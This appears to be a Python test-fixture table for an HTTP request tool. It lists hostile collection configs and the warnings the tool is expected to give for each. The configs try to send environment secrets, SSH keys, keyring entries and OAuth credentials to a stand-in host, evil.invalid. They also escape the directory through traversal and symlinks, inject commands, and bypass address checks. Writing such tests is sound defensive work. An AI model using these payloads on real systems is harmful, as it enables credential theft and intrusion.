"""The table of hostile clones: what each tries, and the words that answer it.

`@LOCAL@` is a counting server on this machine, `@PRIVATE@` a directory beside the clone. HARMLESS
ones may reach this machine, and take nothing along that is not theirs; the others do nothing at
all without a yes. Must not run anything.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field

from tests.integration.strangers import EVIL, HEAD

LOCAL = "@LOCAL@"
PART = '[request.body]\ntype = "multipart"\n[[request.body.part]]\nname = "a"\n'
FILE = '[request.body]\ntype = "file"\n'
OUT = "which is outside its own directory"
YES = "--allow CANARY=https://evil.invalid"


@dataclass(frozen=True)
class Case:
    """A clone: its files and links, what is opened, and what must be said and heard."""

    name: str
    files: Mapping[str, str]
    says: tuple[str, ...]
    links: Mapping[str, str] = field(default_factory=dict)
    opens: str = "c.toml"
    env: Mapping[str, str] = field(default_factory=dict)
    heard: int = 0
    code: int = 2


def one(
    name: str, url: str, more: str, *says: str, before: str = "", also: str = "", **rest: object
) -> Case:
    """A clone of one collection with one request; `also` is its workbench.toml."""
    files = {"c.toml": f'{HEAD}{before}[[request]]\nname = "R"\nurl = "{url}"\n{more}\n'}
    if also:
        files["workbench.toml"] = also
    return Case(name, files, says, **rest)  # type: ignore[arg-type] # the other fields by name


def query(text: str) -> str:
    return f'[request.query]\nq = "{text}"'


def setting(text: str) -> str:
    return f"[request.settings]\n{text}"


def oauth(token_url: str, secret: str = "{{env:CANARY}}") -> str:
    return (
        f'[auth.crm]\ntype = "oauth2"\ngrant = "client_credentials"\ntoken_url = "{token_url}"\n'
        f'client_id = "id"\nclient_secret = "{secret}"\n'
        'client_authentication = "client_secret_post"\n'
    )


SOURCES = [
    one("env in the query", EVIL, query("{{env:CANARY}}"), YES),
    one("env in the path", f"{EVIL}/{{{{env:CANARY}}}}", "", YES),
    one("env in a header", EVIL, '[request.headers]\nX = "{{env:CANARY}}"', YES),
    one("env in a body", EVIL, '[request.body]\ntype = "text"\ntext = "{{env:CANARY}}"', YES),
    one(
        "env behind two variables",
        EVIL,
        query("{{a}}"),
        YES,
        before='[variables]\na = "{{b}}"\nb = "{{env:CANARY}}"\n',
    ),
    one(
        "env in a variable of workbench.toml",
        EVIL,
        query("{{ours}}"),
        YES,
        also='[variables]\nours = "{{env:CANARY}}"\n',
    ),
    one("file above", LOCAL, query("{{file:../private/id_rsa}}"), OUT),
    one("file above by a detour", LOCAL, query("{{file:sub/../../private/id_rsa}}"), OUT),
    one("file by an absolute path", LOCAL, query("{{file:@PRIVATE@/id_rsa}}"), OUT),
    one("file through a link", LOCAL, query("{{file:l}}"), OUT, links={"l": "private/id_rsa"}),
    one(
        "file through a linked directory",
        LOCAL,
        query("{{file:d/id_rsa}}"),
        OUT,
        links={"d": "private"},
    ),
    one("file in a dot directory", LOCAL, query("{{file:.git/config}}"), OUT),
    one("file of the clone to a stranger", EVIL, query("{{file:notes.txt}}"), "--allow notes.txt="),
    one(
        "file of the home directory",
        LOCAL,
        query("{{file:~/id_rsa}}"),
        OUT,
        env={"HOME": "@PRIVATE@"},
    ),
    one("a prompt and nobody there", LOCAL, query("{{prompt:Password}}"), "prompt:Password"),
    one("a prompt", EVIL, query("{{prompt:Password}}"), "--allow prompt:Password=https://evil"),
    one("a keyring that is not there", LOCAL, query("{{keyring:crm}}"), "no keyring"),
    one("a keyring", EVIL, query("{{keyring:crm}}"), "--allow keyring:crm=https://evil.invalid"),
    one("a command", LOCAL, query("{{command:touch owned}}"), "--allow 'touch owned="),
    one("a command to a stranger", EVIL, query("{{command:touch owned}}"), "runs the command"),
    one(
        "a command that .env would bring",
        LOCAL,
        query("{{env:CANARY}}"),
        env={"CANARY": "{{command:touch owned}}"},
        heard=1,
        code=0,
    ),
]

FILES = [
    one("a body that is a file above", LOCAL, f'{FILE}file = "../private/id_rsa"', OUT),
    one("a body that is a link", LOCAL, f'{FILE}file = "l"', OUT, links={"l": "private/id_rsa"}),
    one(
        "a body by a variable",
        LOCAL,
        f'{FILE}file = "{{{{p}}}}"',
        OUT,
        before=('[variables]\np = "@PRIVATE@/id_rsa"\n'),
    ),
    one("a body that never ends", LOCAL, f'{FILE}file = "/dev/zero"', "no regular file"),
    one("a part that is a file above", LOCAL, f'{PART}file = "../private/id_rsa"', OUT),
    one("a part that is a link", LOCAL, f'{PART}file = "l"', OUT, links={"l": "private/id_rsa"}),
    one("a part with a file in its text", LOCAL, f'{PART}value = "{{{{file:.git/config}}}}"', OUT),
    one("a certificate file above", LOCAL, setting('ca_file = "../private/id_rsa"'), OUT),
    one(
        "a client key",
        LOCAL,
        setting('client_certificate = "notes.txt"\nclient_key = "../private/id_rsa"'),
        OUT,
        "uses the client key",
    ),
    one(
        "a proxy",
        LOCAL,
        setting('proxy = "http://evil.invalid:3128"'),
        "through the proxy http://evil.invalid:3128",
    ),
    one("no verification", EVIL, setting("verify = false"), f"--allow verify={EVIL}"),
    one(
        "no verification on this machine",
        LOCAL,
        setting("verify = false"),
        "--allow verify=http://127.0.0.1",
    ),
]

ADDRESSES = [
    one(
        "a host that looks local",
        "http://127.0.0.1.evil.invalid",
        query("{{env:CANARY}}"),
        "--allow",
    ),
    one(
        "a name that looks local",
        "http://localhost.evil.invalid",
        query("{{env:CANARY}}"),
        "--allow",
    ),
    one(
        "every address", "http://0.0.0.0", query("{{env:CANARY}}"), "--allow CANARY=http://0.0.0.0"
    ),
    one(
        "a user name in front",
        "http://127.0.0.1@evil.invalid",
        query("{{env:CANARY}}"),
        "user name",
    ),
    one("a source as user name", "https://{{env:CANARY}}@evil.invalid", "", "no address"),
    one("a source as password", "https://a:{{env:CANARY}}@evil.invalid", "", "no address"),
    one("a backslash", "http://127.0.0.1\\\\@evil.invalid", query("{{env:CANARY}}"), "no address"),
    one("a source as host", "https://{{env:HOST}}", query("{{env:CANARY}}"), "{{env:HOST}}"),
    one("a source as subdomain", "https://{{env:CANARY}}.evil.invalid", "", "--allow"),
    one(
        "an environment that moves the address",
        "{{base}}",
        query("{{env:CANARY}}"),
        YES,
        before=f'[variables]\nbase = "{{{{to}}}}"\nto = "{EVIL}"\n',
    ),
]

PRESETS = [
    one(
        "a token endpoint elsewhere",
        LOCAL,
        'auth = "crm"',
        YES,
        before=oauth(f"{EVIL}/token"),
    ),
    one(
        "a token to a stranger",
        EVIL,
        'auth = "crm"',
        f"--allow crm={EVIL}",
        before=oauth(f"{LOCAL}/token"),
    ),
    one(
        "a secret of workbench.toml to a token endpoint of the collection",
        LOCAL,
        'auth = "crm"',
        f"--allow crm={EVIL}",
        before=f'[variables]\nwhere = "{EVIL}"\n',
        also=oauth("{{where}}/token", "literal"),
    ),
    one(
        "a key of workbench.toml to a stranger",
        EVIL,
        'auth = "ours"',
        f"--allow ours={EVIL}",
        also='[auth.ours]\ntype = "api_key"\nname = "k"\nvalue = "literal"\n',
    ),
    one(
        "a password to a stranger",
        EVIL,
        'auth = { type = "basic", username = "a", password = "{{env:CANARY}}" }',
        YES,
    ),
]

SURROUNDINGS = [
    one("an env file above the repository", LOCAL, query("{{env:ABOVE}}"), "env:ABOVE is not set"),
    one(
        "an env file that leads out",
        LOCAL,
        query("{{env:ABOVE}}"),
        "env:ABOVE is not set",
        links={".env": "private/.env"},
    ),
    one("a workbench.toml above the repository", LOCAL, query("{{above}}"), "stands for nothing"),
    one(
        "a workbench.toml that leads out",
        LOCAL,
        query("{{above}}"),
        "cannot be used",
        links={"workbench.toml": "workbench.toml"},
    ),
    Case(
        "the home directory as workspace, its env file",
        {
            "c.toml": f'{HEAD}[[request]]\nname = "R"\nurl = "{LOCAL}/{{{{env:MINE}}}}"\n',
            ".env": "MINE=mine\n",
        },
        ("env:MINE is not set",),
        env={"HOME": "@TOP@"},
    ),
    Case(
        "the home directory as workspace, a file",
        {"c.toml": f'{HEAD}[[request]]\nname = "R"\nurl = "{LOCAL}/{{{{file:notes.txt}}}}"\n'},
        ("notes.txt",),
        env={"HOME": "@TOP@"},
    ),
    Case(
        "the temporary directory as workspace, a body",
        {"c.toml": f'{HEAD}[[request]]\nname = "R"\nurl = "{LOCAL}"\n{FILE}file = "notes.txt"\n'},
        ("notes.txt",),
        env={"TMPDIR": "@TOP@"},
    ),
    Case(
        "the temporary directory as workspace, its workbench.toml",
        {
            "c.toml": f'{HEAD}[[request]]\nname = "R"\nurl = "{LOCAL}/{{{{mine}}}}"\n',
            "workbench.toml": '[variables]\nmine = "mine"\n',
        },
        ("stands for nothing",),
        env={"TMPDIR": "@TOP@"},
    ),
    Case(
        "a collection that is a link out",
        {},
        ("cannot be used",),
        links={"sub/other.toml": "private/other.toml"},
        opens=".",
    ),
]

HARMLESS = [
    one("a template in a value of the process", LOCAL, query("{{env:TEMPLATE}}"), heard=1, code=0),
    one(
        "a template in a file",
        LOCAL,
        query("{{file:t.txt}}"),
        "%7B%7Benv%3ACANARY%7D%7D",
        heard=1,
        code=0,
    ),
    one(
        "a redirect to another origin",
        f"{LOCAL}/away?http://localhost:1/x",
        'auth = "crm"',
        "Left out there: Authorization",
        before=oauth(f"{LOCAL}/token", "mine"),
        heard=2,
        code=3,
    ),
    one(
        "a redirect to another port of this machine",
        f"{LOCAL}/away?http://127.0.0.1:1/x",
        'auth = "crm"',
        "Left out there: Authorization",
        before=oauth(f"{LOCAL}/token", "mine"),
        heard=2,
        code=3,
    ),
    one("a host header", LOCAL, '[request.headers]\nHost = "evil.invalid"', heard=1, code=0),
    Case(
        "a linked directory of collections",
        {"c.toml": f'{HEAD}[[request]]\nname = "R"\nurl = "{LOCAL}"\n'},
        (),
        links={"more": "private"},
        opens=".",
        heard=1,
        code=0,
    ),
    one(
        "a token endpoint that redirects",
        LOCAL,
        'auth = "crm"',
        "follows no redirect",
        before=oauth(f"{LOCAL}/away?{EVIL}/token", "mine"),
        heard=1,
        code=4,
    ),
]

CASES = [*SOURCES, *FILES, *ADDRESSES, *PRESETS, *SURROUNDINGS, *HARMLESS]
